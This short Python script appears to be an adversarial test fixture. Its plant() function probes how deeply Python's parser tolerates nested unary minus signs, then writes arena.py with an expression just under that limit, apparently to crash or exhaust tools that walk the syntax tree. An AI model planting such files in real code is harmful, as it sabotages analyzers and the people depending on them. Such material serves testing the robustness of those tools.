# {"attack": "Hands in an expression that is just not too deep for Python.", "breach": "harm", "kind": "files", "fair": 2}

import ast


def plant(folder, targets):
    low, high = 1, 100_000
    while high - low > 1:  # as deep as Python reads it from here
        middle = (low + high) // 2
        try:
            ast.parse("x = " + "-" * middle + "1\n")
            low = middle
        except (RecursionError, MemoryError):
            high = middle
    (folder / "arena.py").write_text("x = " + "-" * (low - 60) + "1\ndef double(x):\n    return 2 * x\n")
